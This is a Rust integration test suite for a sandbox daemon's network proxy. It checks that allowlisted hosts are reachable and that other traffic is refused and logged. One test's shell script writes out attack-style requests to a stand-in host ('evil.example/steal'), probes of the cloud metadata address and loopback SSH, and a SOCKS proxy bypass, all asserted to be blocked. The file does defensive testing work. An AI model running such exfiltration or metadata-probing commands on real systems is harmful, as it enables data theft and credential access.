//! Every worker's own network, end to end: real tools in real workers of a
//! real wardend reach allowlisted names through its proxy (test servers on
//! loopback that the daemon's `hosts` table maps those names to, over TLS
//! with a test CA the tools are told to trust), and everything else is
//! refused in-band and reported.

use std::time::{Duration, Instant};

use serde_json::Value;
use warden_tests::daemon::Daemon;
use warden_tests::servers::{assert_packages_arrived, package_script, package_servers, Served, TestCa};
use warden_tests::*;

fn root() -> bool {
    privileged("runs wardend, whose workers get their own network namespaces")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// A daemon with profile `net` (extending `base`) that allows the test
/// servers' names on their ports, with `blocked.test` on its deny list,
/// and the test CA in alice's workspace.
struct Net {
    d: Daemon,
    tls: Served,
    plain: Served,
    _fixtures: tempfile::TempDir,
}

fn net() -> Net {
    let fixtures = tempfile::tempdir().unwrap();
    let ca = TestCa::new();
    let names = [
        "git.test",
        "pypi.test",
        "npm.test",
        "web.test",
        "blocked.test",
        "evil.test",
    ];
    let tls = Served::start(package_servers(fixtures.path()), Some(ca.server_config(&names)));
    let plain = Served::start(package_servers(&fixtures.path().join("plain")), None);
    let d = Daemon::start();
    let (t, p) = (tls.port(), plain.port());
    d.add_profile(
        "net",
        &format!(
            "extends = \"base\"\n[network]\n\
             allow = [\"git.test:{t}\", \"pypi.test:{t}\", \"npm.test:{t}\", \"*.test:{t}\", \"web.test:{p}\", \"localhost:{p}\"]\n\
             deny = [\"blocked.test\"]\n"
        ),
    );
    let out = d.ctl(&["spawn", "--user", "alice", "--profile", "net", "-w", "--", "true"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let ws = d.tree("alice", "net").join("workspace/default");
    std::fs::write(ws.join("ca.pem"), ca.pem()).unwrap();
    Net {
        d,
        tls,
        plain,
        _fixtures: fixtures,
    }
}

/// Runs `script` with sh as alice under profile `net`; returns (id, output).
fn sh(n: &Net, script: &str) -> (String, String) {
    let out = n.d.ctl(&[
        "spawn",
        "--user",
        "alice",
        "--profile",
        "net",
        "--output",
        "json",
        "--",
        "sh",
        "-c",
        script,
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let w: Value = serde_json::from_slice(&out.stdout).unwrap();
    let id = w["id"].as_str().unwrap().to_string();
    let waited = n.d.ctl(&["wait", &id]);
    let logs = n.d.ctl(&["logs", &id]);
    let all = format!("{}{}", text(&logs.stdout), text(&logs.stderr));
    assert!(waited.status.code().is_some(), "{all}");
    (id, all)
}

fn network_denials(d: &Daemon, pred: impl Fn(&Value) -> bool) -> Vec<Value> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let ev = d.events(&["--kind", "network_denial"]);
        if ev.iter().any(&pred) || Instant::now() >= deadline {
            return ev;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn curl_git_pip_and_npm_reach_allowlisted_names_through_the_proxy() {
    if !root() {
        return;
    }
    let n = net();
    let (id, out) = sh(&n, &package_script(n.tls.port()));
    assert_packages_arrived(&out);
    // Plain HTTP goes through the proxy as an absolute-form request.
    let (_, plain) = sh(&n, &format!("curl -sS http://web.test:{}/hello", n.plain.port()));
    assert_eq!(plain.trim(), "hello through the proxy", "{plain}");

    // The worker's traffic is counted per destination.
    let w: Value = serde_json::from_slice(&n.d.ctl(&["inspect", &id, "--output", "json"]).stdout).unwrap();
    let net = &w["network"];
    assert_eq!(net["mode"], "proxy");
    let wildcard = format!("*.test:{}", n.tls.port());
    assert!(
        net["allow"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a.as_str() == Some(wildcard.as_str())),
        "{net:#}"
    );
    assert_eq!(net["deny"], serde_json::json!(["blocked.test"]));
    for host in ["web.test", "git.test", "pypi.test", "npm.test"] {
        assert!(
            net["hosts"][host]["bytes_down"].as_u64().unwrap_or(0) > 0,
            "{host} in {net:#}"
        );
    }
    assert!(net["connections"].as_u64().unwrap() >= 4, "{net:#}");
    // And in the exit event.
    let exited = n.d.events(&["--kind", "worker_exited", "--worker", &id]);
    assert!(
        exited[0]["network"]["hosts"]["git.test"]["connections"]
            .as_u64()
            .unwrap()
            >= 1,
        "{exited:?}"
    );
}

#[test]
fn names_off_the_list_are_refused_in_band_with_the_reason_and_reported() {
    if !root() {
        return;
    }
    let n = net();
    let t = n.tls.port();
    let (id, out) = sh(
        &n,
        &format!(
            "curl -sS http://evil.example/steal; echo; \
             curl -sS https://evil.example/ 2>&1; \
             curl -sv --cacert /workspace/default/ca.pem https://blocked.test:{t}/hello 2>&1 | grep -i x-warden; \
             curl -sS http://blocked.test:{p}/hello; \
             curl -sS -i http://169.254.169.254/latest/meta-data/ | grep -i x-warden; \
             curl -sv --noproxy '' -p http://127.0.0.1:22/ 2>&1 | grep -i x-warden; \
             curl -sS -i --noproxy '' http://localhost:{p}/hello | grep -i -e x-warden -e resolves; \
             curl -sS --socks5-hostname 127.0.0.1:1080 https://evil.example/ 2>&1; echo socks=$?",
            p = n.plain.port()
        ),
    );
    assert!(
        out.contains("warden: evil.example is not on the allowlist of profile net"),
        "{out}"
    );
    assert!(out.contains("CONNECT tunnel failed, response 403"), "{out}");
    // A deny entry beats the wildcard allow.
    assert!(out.contains("x-warden-denied: deny-list"), "{out}");
    assert!(
        out.contains(&format!(
            "blocked.test:{} is on the deny list of profile net (blocked.test)",
            n.plain.port()
        )),
        "{out}"
    );
    assert_eq!(
        out.matches("x-warden-denied: not-allowed").count(),
        2,
        "metadata and 127.0.0.1:22: {out}"
    );
    // A name the resolver maps to loopback is refused there.
    assert!(out.contains("x-warden-denied: internal-address"), "{out}");
    assert!(out.contains("localhost resolves to 127.0.0.1 (loopback)"), "{out}");
    assert!(
        out.contains("socks=97") || out.contains("socks=7"),
        "SOCKS refused: {out}"
    );

    let ev = network_denials(&n.d, |e| e["host"] == "localhost");
    let has = |host: &str, reason: &str| {
        ev.iter()
            .any(|e| e["host"] == host && e["reason"] == reason && e["worker"] == id.as_str() && e["user"] == "alice")
    };
    assert!(has("evil.example", "not-allowed"), "{ev:#?}");
    assert!(has("blocked.test", "deny-list"), "{ev:#?}");
    assert!(has("169.254.169.254", "not-allowed"), "{ev:#?}");
    assert!(has("127.0.0.1", "not-allowed"), "{ev:#?}");
    assert!(has("localhost", "internal-address"), "{ev:#?}");
    let socks = ev.iter().find(|e| e["protocol"] == "socks").expect("a SOCKS denial");
    assert_eq!(socks["port"], 443);
    // The worker saw each refusal, and wardenctl counts them.
    let w: Value = serde_json::from_slice(&n.d.ctl(&["inspect", &id, "--output", "json"]).stdout).unwrap();
    assert!(w["network"]["denials"].as_u64().unwrap() >= 6, "{w:#}");
}

#[test]
fn tools_that_ignore_the_proxy_fail_at_once() {
    if !root() {
        return;
    }
    let n = net();
    let started = Instant::now();
    let (_, out) = sh(
        &n,
        "cat /etc/resolv.conf; getent hosts github.com; echo getent=$?; \
         curl -sS --noproxy '*' -m 20 https://github.com/ 2>&1; echo curl=$?",
    );
    assert!(out.contains("no DNS inside this sandbox"), "{out}");
    assert!(out.contains("getent=2"), "{out}");
    assert!(out.contains("Could not resolve host: github.com"), "{out}");
    assert!(started.elapsed() < Duration::from_secs(15), "no waiting for a resolver");
}
